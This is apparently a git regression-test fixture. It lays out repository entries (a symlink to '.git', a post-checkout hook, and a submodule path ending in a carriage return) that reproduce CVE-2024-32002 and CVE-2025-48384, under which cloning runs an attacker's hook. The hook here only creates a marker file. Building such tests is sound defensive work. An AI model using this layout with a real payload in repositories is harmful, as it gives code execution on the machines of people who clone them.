# CVE-2024-32002, CVE-2025-48384: a link, or a name that ends in a carriage return, puts a
# submodule's data where its own hook runs during the clone.
entry 120000 A/modules '.git'
entry 100755 hooks/post-checkout '#!/bin/sh\ntouch RAN-hook\n'
entry 160000 a/modules/x
entry 100644 .gitmodules '[submodule "x/y"]\n\tpath = "a/modules/x\\r"\n\turl = https://git.example.com/x.git\n'
